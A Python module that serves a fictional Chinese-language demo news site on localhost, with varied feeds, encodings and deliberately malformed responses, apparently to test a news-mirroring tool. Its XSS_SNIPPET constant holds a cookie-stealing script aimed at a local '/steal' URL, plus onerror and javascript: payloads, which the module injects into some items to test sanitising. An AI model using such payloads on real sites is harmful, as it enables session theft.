"""The built-in demo news site: feeds and article pages of fictional outlets, served on 127.0.0.1.

`make demo` mirrors this site, so it carries what real outlets throw at a mirror: Big5 and GB18030
feeds and pages, RSS with and without full text, Atom, JSON Feed, a truncated feed, an HTML page
where a feed should be, conditional GET, page boilerplate around the article, and hostile titles
and descriptions. Every response is built once from fixed data, so each run serves the same bytes
(apart from the base URL, which names the port).
"""

from __future__ import annotations

import hashlib
import html
import json
import struct
import threading
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime, UTC
from email.utils import format_datetime, parsedate_to_datetime
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

from newsmirror.demo.articles import ARTICLES, OUTLETS, REFERENCE_DATE, DemoArticle, Outlet, articles_of
from newsmirror.models import Source

__all__ = [
    "BROKEN_FEED_PATH",
    "NOT_A_FEED_PATH",
    "BROKEN_SOURCE",
    "NOT_A_FEED_SOURCE",
    "DemoResponse",
    "DemoSite",
    "DemoServer",
    "build_demo_site",
    "start_demo_site",
    "demo_sources",
]

BROKEN_FEED_PATH = "/broken/rss.xml"
NOT_A_FEED_PATH = "/wrong/feed"
BROKEN_SOURCE = "(測)故障示範台"
NOT_A_FEED_SOURCE = "(測)錯址示範網"
DISCLAIMER = "本站為 newsmirror 內建示範網站，所有機構、人物對話與事件細節皆為虛構。"

XSS_SNIPPET = (
    '<script>document.location="http://127.0.0.1:9/steal?c="+document.cookie</script>'
    '<img src="/nope.png" onerror="alert(\'xss\')">'
    '<a href="javascript:alert(1)">領取消費券</a>'
)

_CONTENT_TYPES = {
    "rss-summary": "application/rss+xml",
    "rss-full": "application/rss+xml",
    "atom": "application/atom+xml",
    "json": "application/feed+json",
}


@dataclass(frozen=True)
class DemoResponse:
    """One prepared response: body bytes and the headers that describe them."""

    body: bytes
    content_type: str
    status: int = 200
    etag: str | None = None
    last_modified: str | None = None  # HTTP date


@dataclass(frozen=True)
class DemoSite:
    """Every response of the demo site, by path, for one base URL."""

    base_url: str
    responses: dict[str, DemoResponse]

    def get(self, path: str) -> DemoResponse | None:
        """The response for a request path (query ignored), or None for 404."""
        return self.responses.get(urlsplit(path).path or "/")


# --- small helpers ----------------------------------------------------------------------------------

def _e(text: str) -> str:
    return html.escape(text, quote=True)


def _http_date(when: datetime) -> str:
    return format_datetime(when.astimezone(UTC), usegmt=True)


def _rfc822(when: datetime) -> str:
    return format_datetime(when)


def _etag(body: bytes) -> str:
    return '"' + hashlib.sha1(body).hexdigest()[:20] + '"'


def _response(body: bytes, content_type: str, modified: datetime | None = None) -> DemoResponse:
    return DemoResponse(body, content_type, etag=_etag(body),
                        last_modified=_http_date(modified) if modified else None)


def _encode(text: str, encoding: str) -> bytes:
    """Encode as the outlet does; characters the legacy charset lacks become numeric references."""
    return text.encode(encoding, errors="xmlcharrefreplace")


def _hans(o: Outlet) -> bool:
    return o.lang == "zh-Hans"


def _summary(a: DemoArticle) -> str:
    """The feed's short description: the first real paragraph, cut like outlets cut it."""
    first = next((p for p in a.paragraphs if len(p) > 30), a.paragraphs[0])
    return first if len(first) <= 90 else first[:90] + "…"


def _png(rgb: tuple[int, int, int], width: int = 48, height: int = 27) -> bytes:
    """A small solid-colour PNG, built by hand so the demo needs no image files."""
    row = b"\x00" + bytes(rgb) * width
    raw = zlib.compress(row * height, 9)

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


# --- feeds ------------------------------------------------------------------------------------------

def _body_html(a: DemoArticle, base: str, *, with_figure: bool = True) -> str:
    """The article body as a feed's full-text HTML."""
    parts = []
    if with_figure:
        parts.append(f'<figure><img src="{base}{a.image_path}" alt="{_e(a.caption)}">'
                     f"<figcaption>{_e(a.caption)}</figcaption></figure>")
    parts += [f"<p>{_e(p)}</p>" for p in a.paragraphs]
    if a.editor:
        parts.append(f"<p>（责任编辑：{_e(a.editor)}）</p>")
    if a.xss:
        parts.append(XSS_SNIPPET)
    return "".join(parts)


def _description(a: DemoArticle) -> str:
    text = f"<p>{_e(_summary(a))}</p>"
    return text + XSS_SNIPPET if a.xss else text


def _cdata(text: str) -> str:
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def _rss(o: Outlet, base: str, *, full: bool) -> str:
    items = []
    for a in articles_of(o.key):
        link = base + a.path
        # A naive date as many Chinese CMSes write it; it means the outlet's local time.
        date = f"{a.published:%Y-%m-%d %H:%M:%S}" if a.naive_date else _rfc822(a.published)
        guid = (f"<guid isPermaLink=\"true\">{_e(link)}</guid>" if not full
                else f"<guid isPermaLink=\"false\">{o.key}-{a.published:%Y%m%d}-{a.slug}</guid>")
        cats = "".join(f"<category>{_e(t)}</category>" for t in (a.section, *a.tags))
        creators = "".join(f"<dc:creator>{_e(n)}</dc:creator>" for n in a.authors)
        content = f"<content:encoded>{_cdata(_body_html(a, base))}</content:encoded>" if full else ""
        items.append(
            f"<item><title>{_e(a.title)}</title><link>{_e(link)}</link>{guid}<pubDate>{date}</pubDate>"
            f"{creators}{cats}<description>{_cdata(_description(a))}</description>{content}</item>"
        )
    newest = max(a.published for a in articles_of(o.key))
    return (
        f'<?xml version="1.0" encoding="{o.encoding}"?>\n'
        '<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:atom="http://www.w3.org/2005/Atom">\n'
        f"<channel><title>{_e(o.site_name)}</title><link>{base}/{o.key}/</link>"
        f'<atom:link href="{base}{o.feed_path}" rel="self" type="application/rss+xml"/>'
        f"<description>{_e(o.site_name)} 最新新聞。{_e(DISCLAIMER)}</description>"
        f"<language>{'zh-cn' if _hans(o) else 'zh-tw'}</language>"
        f"<lastBuildDate>{_rfc822(newest)}</lastBuildDate><ttl>10</ttl>\n"
        + "\n".join(items) + "\n</channel></rss>\n"
    )


def _atom(o: Outlet, base: str) -> str:
    entries = []
    for a in articles_of(o.key):
        link = base + a.path + "?utm_source=rss&utm_medium=feed"  # tracking tags, as many outlets add
        cats = "".join(f'<category term="{_e(t)}"/>' for t in (a.section, *a.tags))
        authors = "".join(f"<author><name>{_e(n)}</name></author>" for n in a.authors)
        entries.append(
            f"<entry><id>tag:{o.key}.demo.invalid,2025:{a.slug}</id><title>{_e(a.title)}</title>"
            f'<link rel="alternate" type="text/html" href="{_e(link)}"/>'
            f"<published>{a.published.isoformat()}</published><updated>{a.published.isoformat()}</updated>"
            f"{authors}{cats}<summary type=\"html\">{_e(_description(a))}</summary>"
            f'<content type="html">{_e(_body_html(a, base))}</content></entry>'
        )
    newest = max(a.published for a in articles_of(o.key))
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="zh-HK">'
        f"<title>{_e(o.site_name)}</title><subtitle>{_e(DISCLAIMER)}</subtitle>"
        f'<id>tag:{o.key}.demo.invalid,2025:feed</id><link rel="self" href="{base}{o.feed_path}"/>'
        f'<link rel="alternate" href="{base}/{o.key}/"/><updated>{newest.isoformat()}</updated>\n'
        + "\n".join(entries) + "\n</feed>\n"
    )


def _json_feed(o: Outlet, base: str) -> str:
    items = [
        {
            "id": f"{o.key}-{a.slug}",
            "url": base + a.path,
            "title": a.title,
            "summary": _summary(a),
            "content_html": _body_html(a, base),
            "image": base + a.image_path,
            "date_published": a.published.isoformat(),
            "authors": [{"name": n} for n in a.authors],
            "tags": [a.section, *a.tags],
        }
        for a in articles_of(o.key)
    ]
    feed = {
        "version": "https://jsonfeed.org/version/1.1",
        "title": o.site_name,
        "home_page_url": f"{base}/{o.key}/",
        "feed_url": base + o.feed_path,
        "description": DISCLAIMER,
        "language": "zh-SG",
        "items": items,
    }
    return json.dumps(feed, ensure_ascii=False, indent=1) + "\n"


def _broken_feed(base: str) -> str:
    """A feed cut off mid-write: malformed, and no item ever starts."""
    return (
        '<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0">\n<channel>\n'
        f"<title>{BROKEN_SOURCE}</title><link>{base}/broken/</link>\n"
        "<description>本台 RSS 產生器在寫出第一則新聞前當機了 & 沒有關閉任何標籤\n"
        "<lastBuildDate>Fri, 12 Sep 2025 08:0"
    )


def _not_a_feed(base: str) -> str:
    """What a moved feed URL often answers: the outlet's homepage, as HTML."""
    return (
        '<!DOCTYPE html>\n<html lang="zh-Hant"><head><meta charset="utf-8">'
        f"<title>{NOT_A_FEED_SOURCE}｜首頁</title></head><body>"
        f"<header><h1>{NOT_A_FEED_SOURCE}</h1><nav><a href=\"/\">首頁</a> <a href=\"/wrong/news\">新聞</a></nav></header>"
        "<main><p>本站已改版，RSS 服務暫停提供，造成不便敬請見諒。</p>"
        "<ul><li><a href=\"/wrong/news/1\">本站改版公告</a></li></ul></main>"
        f"<footer>{_e(DISCLAIMER)}</footer></body></html>\n"
    )


# --- article pages ------------------------------------------------------------------------------------

_NAV = {
    "dna": ("首頁", "政治", "國際", "兩岸", "產經", "社會", "生活", "運動", "影音"),
    "huashi": ("首页", "时政", "国际", "财经", "社会", "科技", "体育", "视频", "图片"),
    "harbour": ("主頁", "港聞", "國際", "中國", "財經", "地產", "教育", "副刊"),
    "nanyang": ("首页", "新加坡", "东南亚", "国际", "财经", "言论", "生活"),
}
_PRODUCTS = {
    "zh-Hant": ("示範牌真空保溫杯 480ml NT$590", "晨光有機烏龍茶禮盒 NT$880", "無線降噪耳機 限時85折"),
    "zh-Hans": ("示范牌真空保温杯 480ml ¥89", "晨光有机乌龙茶礼盒 ¥168", "无线降噪耳机 限时85折"),
}


def _related(a: DemoArticle) -> list[DemoArticle]:
    """Same-outlet articles on the same story first, then the newest others; four in all."""
    others = [b for b in articles_of(a.outlet) if b is not a]
    same = [b for b in others if b.story == a.story]
    return (same + [b for b in others if b not in same])[:4]


def _shown_date(o: Outlet, when: datetime) -> str:
    if o.key == "dna":
        return f"{when:%Y/%m/%d %H:%M}"
    if o.key == "huashi":
        return f"{when:%Y-%m-%d %H:%M:%S}"
    if o.key == "harbour":
        week = "一二三四五六日"[when.weekday()]
        return f"{when.year}年{when.month}月{when.day}日 星期{week} {when:%H:%M}"
    return f"{when.year}年{when.month}月{when.day}日 {when:%I:%M %p}"


def _head_meta(o: Outlet, a: DemoArticle, base: str) -> str:
    link = base + a.path
    out = [f'<meta name="description" content="{_e(_summary(a))}">',
           f'<meta name="keywords" content="{_e(",".join(a.tags))}">',
           f'<link rel="canonical" href="{_e(link)}">']
    if a.authors:
        out.append(f'<meta name="author" content="{_e("、".join(a.authors))}">')
    if o.og:
        out += [
            '<meta property="og:type" content="article">',
            f'<meta property="og:title" content="{_e(a.title)}">',
            f'<meta property="og:url" content="{_e(link)}">',
            f'<meta property="og:image" content="{base}{a.image_path}">',
            f'<meta property="og:description" content="{_e(_summary(a))}">',
            f'<meta property="og:site_name" content="{_e(o.site_name)}">',
            f'<meta property="article:published_time" content="{a.published.isoformat()}">',
        ] + [f'<meta property="article:tag" content="{_e(t)}">' for t in a.tags]
    if o.json_ld:
        data = {
            "@context": "https://schema.org",
            "@type": "NewsArticle",
            "headline": a.title,
            "url": link,
            "mainEntityOfPage": link,
            "datePublished": a.published.isoformat(),
            "dateModified": a.published.isoformat(),
            "image": [base + a.image_path],
            "author": [{"@type": "Person", "name": n} for n in a.authors],
            "publisher": {"@type": "Organization", "name": o.site_name},
            "keywords": list(a.tags),
            "articleSection": a.section,
            "description": _summary(a),
        }
        # "</" must not end the script element early; JSON allows the escape.
        blob = json.dumps(data, ensure_ascii=False).replace("</", "<\\/")
        out.append(f'<script type="application/ld+json">{blob}</script>')
    return "\n".join(out)


def _page(o: Outlet, a: DemoArticle, base: str) -> str:
    hans = _hans(o)
    charset = {"big5": "big5", "gb18030": "gbk", "utf-8": "utf-8"}[o.encoding]
    others = [b for b in articles_of(o.key) if b is not a]
    related = _related(a)
    nav = "".join(f'<li><a href="/{o.key}/">{_e(n)}</a></li>' for n in _NAV[o.key])
    ticker = "".join(f'<li><a href="{b.path}">{_e(b.title)}</a></li>' for b in others[:6])
    rel_label, more_label = ("相关新闻", "延伸阅读") if hans else ("延伸閱讀", "相關新聞")
    rel = "".join(f'<li><a href="{b.path}">{_e(b.title)}</a></li>' for b in related)
    popular = "".join(f'<li><a href="{b.path}">{_e(b.title)}</a></li>' for b in others[-3:])
    tags = "".join(f'<a class="tag" href="/{o.key}/tag/{i}">#{_e(t)}</a> ' for i, t in enumerate(a.tags))
    products = "".join(f"<li>{_e(p)}</li>" for p in _PRODUCTS[o.lang])
    body = "\n".join(f"<p>{_e(p)}</p>" for p in a.paragraphs)
    byline = ""
    if o.key == "huashi":
        byline = f'<div class="source">来源：{_e(o.site_name)}　作者：{_e("、".join(a.authors))}</div>'
    elif o.key in ("harbour", "nanyang"):
        byline = f'<div class="byline">{"文" if o.key == "harbour" else "作者"}：{_e("、".join(a.authors))}</div>'
    editor = f'<div class="editor">【责任编辑：{_e(a.editor)}】</div>' if a.editor else ""
    if o.key == "dna":
        desk = ("陳政宏", "張淑芬", "林克倫")[sum(map(ord, a.slug)) % 3]  # fixed per article
        editor = f'<div class="editor">（編輯：{desk}）{a.published.year - 1911}{a.published:%m%d}</div>'
    comments = ("跟帖评论自律管理承诺书：请遵守法律法规，文明发言，理性表达。" if hans
                else "留言規則：請勿人身攻擊、散布不實訊息或張貼廣告，違者將刪除留言並停權。")
    share = ("分享到：微博 微信 QQ空间 复制链接" if hans else "分享：Facebook LINE X 複製連結")
    listen = "听新闻 0:00 / 0:00" if hans else "聽新聞 0:00 / 0:00"
    crumbs = f'<a href="/{o.key}/">{_e(_NAV[o.key][0])}</a> &gt; <a href="/{o.key}/">{_e(a.section)}</a>'
    return f"""<!DOCTYPE html>
<html lang="{o.lang}">
<head>
<meta charset="{charset}">
<meta http-equiv="Content-Type" content="text/html; charset={charset}">
<title>{_e(a.title)} | {_e(o.site_name)}</title>
{_head_meta(o, a, base)}
<script src="/static/ads.js"></script>
<script>window.dataLayer=window.dataLayer||[];dataLayer.push({{"page":"{o.key}-article"}});</script>
</head>
<body class="{o.key} article-page">
<header class="site-header"><a class="logo" href="/{o.key}/">{_e(o.site_name)}</a>
<nav class="main-nav"><ul>{nav}</ul></nav>
<form class="search" action="/{o.key}/search"><input name="q" placeholder="{'搜索' if hans else '搜尋'}"></form></header>
<div class="ticker"><span>{'滚动新闻' if hans else '即時新聞'}</span><ul>{ticker}</ul></div>
<div class="breadcrumb">{crumbs}</div>
<main>
<article class="news">
<h1 class="headline">{_e(a.title)}</h1>
{byline}
<div class="updatetime"><span>{'发布时间' if hans else '發稿時間'}：{_shown_date(o, a.published)}</span></div>
<div class="share-bar">{share}</div>
<div class="audio-player"><button>▶</button><span>{listen}</span></div>
<figure class="main-photo"><img src="{a.image_path}" alt="{_e(a.caption)}"><figcaption>{_e(a.caption)}</figcaption></figure>
<div class="article-body">
{body}
</div>
{editor}
<div class="tags">{'标签' if hans else '標籤'}：{tags}</div>
</article>
<section class="related"><h2>{rel_label}</h2><ul>{rel}</ul></section>
<section class="more"><h2>{more_label}</h2><ul>{popular}</ul></section>
<aside class="shop"><h2>{'商品推荐' if hans else '商品推薦'}</h2><ul>{products}</ul></aside>
<section class="comments"><h2>{'网友评论' if hans else '網友留言'}</h2><p class="rules">{comments}</p></section>
</main>
<footer class="site-footer"><p>© 2025 {_e(o.site_name)}　{'版权所有' if hans else '版權所有'}</p>
<p>{_e(DISCLAIMER)}</p><p><a href="{o.feed_path}">RSS</a> · <a href="/">{'关于我们' if hans else '關於我們'}</a></p></footer>
</body>
</html>
"""


def _section_page(o: Outlet) -> str:
    items = "".join(f'<li><a href="{a.path}">{_e(a.title)}</a> <time>{_shown_date(o, a.published)}</time></li>'
                    for a in articles_of(o.key))
    charset = {"big5": "big5", "gb18030": "gbk", "utf-8": "utf-8"}[o.encoding]
    return (f'<!DOCTYPE html>\n<html lang="{o.lang}"><head><meta charset="{charset}"><title>{_e(o.site_name)}</title>'
            f'<link rel="alternate" type="{_CONTENT_TYPES[o.feed_kind]}" href="{o.feed_path}"></head><body>'
            f"<h1>{_e(o.site_name)}</h1><ul>{items}</ul><footer>{_e(DISCLAIMER)}</footer></body></html>\n")


def _index_page(base: str) -> str:
    rows = "".join(
        f'<li><a href="/{o.key}/">{_e(o.name)}</a> — <a href="{o.feed_path}">{o.feed_kind}</a> '
        f"({o.encoding}, {len(articles_of(o.key))} 則)</li>" for o in OUTLETS
    )
    return (
        '<!DOCTYPE html>\n<html lang="zh-Hant"><head><meta charset="utf-8"><title>newsmirror 示範新聞站</title>'
        f"</head><body><h1>newsmirror 示範新聞站</h1><p>{_e(DISCLAIMER)}</p><ul>{rows}"
        f'<li>{_e(BROKEN_SOURCE)} — <a href="{BROKEN_FEED_PATH}">故障的 RSS</a></li>'
        f'<li>{_e(NOT_A_FEED_SOURCE)} — <a href="{NOT_A_FEED_PATH}">不是 feed 的網址</a></li>'
        f"</ul><p>Base URL: {_e(base)}</p></body></html>\n"
    )


# --- the site ------------------------------------------------------------------------------------------

def build_demo_site(base_url: str) -> DemoSite:
    """Render every feed, page and image of the demo for `base_url` (e.g. "http://127.0.0.1:8123")."""
    base = base_url.rstrip("/")
    r: dict[str, DemoResponse] = {}
    r["/"] = _response(_index_page(base).encode("utf-8"), "text/html; charset=utf-8", REFERENCE_DATE)
    # every page may be fetched but one: the archive then holds only its feed summary and says why (「僅有摘要」)
    robots = "User-agent: *\n" + "".join(f"Disallow: {a.path}\n" for a in ARTICLES if a.disallowed) + "Allow: /\n"
    r["/robots.txt"] = _response(robots.encode("utf-8"), "text/plain; charset=utf-8")
    colours = {"dna": (32, 96, 160), "huashi": (180, 40, 40), "harbour": (20, 120, 110), "nanyang": (200, 140, 20)}
    for o in OUTLETS:
        mine = articles_of(o.key)
        newest = max(a.published for a in mine)
        if o.feed_kind == "json":
            text, ctype = _json_feed(o, base), "application/feed+json; charset=utf-8"
        elif o.feed_kind == "atom":
            text, ctype = _atom(o, base), "application/atom+xml; charset=utf-8"
        else:
            text, ctype = _rss(o, base, full=o.feed_kind == "rss-full"), f"application/rss+xml; charset={o.encoding}"
        r[o.feed_path] = _response(_encode(text, o.encoding), ctype, newest)
        page_charset = {"big5": "big5", "gb18030": "gbk", "utf-8": "utf-8"}[o.encoding]
        page_type = f"text/html; charset={page_charset}"
        r[f"/{o.key}/"] = _response(_encode(_section_page(o), page_charset), page_type, newest)
        image = _png(colours.get(o.key, (90, 90, 90)))
        for a in mine:
            r[a.path] = _response(_encode(_page(o, a, base), page_charset), page_type, a.published)
            r[a.image_path] = _response(image, "image/png", a.published)
    r[BROKEN_FEED_PATH] = _response(_broken_feed(base).encode("utf-8"), "application/rss+xml; charset=utf-8",
                                    REFERENCE_DATE)
    r[NOT_A_FEED_PATH] = _response(_not_a_feed(base).encode("utf-8"), "text/html; charset=utf-8")
    return DemoSite(base_url=base, responses=r)


def demo_sources(base_url: str) -> list[Source]:
    """The sources file entries for the demo: four outlets, a broken feed and an HTML-instead-of-feed URL."""
    base = base_url.rstrip("/")
    out = [
        Source(name=o.name, feeds=(base + o.feed_path,), timezone=o.timezone,
               tags=("demo", o.lang, o.feed_kind), full_text="auto", homepage=f"{base}/{o.key}/")
        for o in OUTLETS
    ]
    out.append(Source(name=BROKEN_SOURCE, feeds=(base + BROKEN_FEED_PATH,), timezone="Asia/Taipei",
                      tags=("demo", "broken"), full_text="auto", homepage=f"{base}/"))
    out.append(Source(name=NOT_A_FEED_SOURCE, feeds=(base + NOT_A_FEED_PATH,), timezone="Asia/Taipei",
                      tags=("demo", "not-a-feed"), full_text="auto", homepage=f"{base}/"))
    return out


def _not_modified(resp: DemoResponse, headers: dict[str, str]) -> bool:
    """True when the request's validators match (If-None-Match wins over If-Modified-Since)."""
    inm = headers.get("if-none-match")
    if inm is not None:
        tags = {t.strip().removeprefix("W/") for t in inm.split(",")}
        return "*" in tags or resp.etag in tags
    ims = headers.get("if-modified-since")
    if ims and resp.last_modified:
        try:
            return parsedate_to_datetime(resp.last_modified) <= parsedate_to_datetime(ims)
        except (TypeError, ValueError):
            return False
    return False


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server_version = "DemoNews/1.0"
    disable_nagle_algorithm = True  # headers and body go out as separate writes

    def log_message(self, format: str, *args: object) -> None:
        if self.server.verbose:  # type: ignore[attr-defined]
            super().log_message(format, *args)

    def do_GET(self) -> None:
        self._answer(send_body=True)

    def do_HEAD(self) -> None:
        self._answer(send_body=False)

    def _answer(self, *, send_body: bool) -> None:
        site: DemoSite = self.server.site  # type: ignore[attr-defined]
        resp = site.get(self.path)
        headers = {k.lower(): v for k, v in self.headers.items()}
        try:
            if resp is None:
                body = f"404 找不到頁面：{self.path}\n".encode()
                self.send_response(404)
                self.send_header("Content-Type", "text/plain; charset=utf-8")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                if send_body:
                    self.wfile.write(body)
                return
            if _not_modified(resp, headers):
                self.send_response(304)
                self._validators(resp)
                self.end_headers()
                return
            self.send_response(resp.status)
            self.send_header("Content-Type", resp.content_type)
            self.send_header("Content-Length", str(len(resp.body)))
            self._validators(resp)
            self.end_headers()
            if send_body:
                self.wfile.write(resp.body)
        except (BrokenPipeError, ConnectionResetError):
            pass

    def _validators(self, resp: DemoResponse) -> None:
        if resp.etag:
            self.send_header("ETag", resp.etag)
        if resp.last_modified:
            self.send_header("Last-Modified", resp.last_modified)
        self.send_header("Cache-Control", "max-age=60")


class DemoServer:
    """The demo site on a threaded HTTP server in a daemon thread; `.stop()` ends it."""

    def __init__(self, host: str = "127.0.0.1", port: int = 0, *, verbose: bool = False,
                 build: Callable[[str], DemoSite] = build_demo_site) -> None:
        """Bind, build the site for the bound base URL (`build`: another site, e.g. benchmark feeds), serve."""
        self.httpd = ThreadingHTTPServer((host, port), _Handler)
        self.httpd.daemon_threads = True
        bound = self.httpd.server_address
        self.host: str = bound[0].decode() if isinstance(bound[0], bytes) else str(bound[0])
        self.port: int = int(bound[1])
        shown = f"[{self.host}]" if ":" in self.host else self.host
        self.base_url = f"http://{shown}:{self.port}"
        self.site = build(self.base_url)
        self.httpd.site = self.site  # type: ignore[attr-defined]
        self.httpd.verbose = verbose  # type: ignore[attr-defined]
        self._thread = threading.Thread(target=self.httpd.serve_forever, name="demo-site", daemon=True)
        self._thread.start()

    def url(self, path: str) -> str:
        """Absolute URL of a path on the demo site."""
        return self.base_url + path

    def sources(self) -> list[Source]:
        """demo_sources() for this server."""
        return demo_sources(self.base_url)

    def stop(self) -> None:
        """Stop serving and close the socket."""
        self.httpd.shutdown()
        self.httpd.server_close()
        self._thread.join(timeout=5)

    shutdown = stop  # the name http.server users reach for

    def __enter__(self) -> DemoServer:
        return self

    def __exit__(self, *exc: object) -> None:
        self.stop()


def start_demo_site(host: str = "127.0.0.1", port: int = 0, *, verbose: bool = False) -> DemoServer:
    """Start the demo site on host:port (0 picks a free port) and return the running server."""
    return DemoServer(host, port, verbose=verbose)
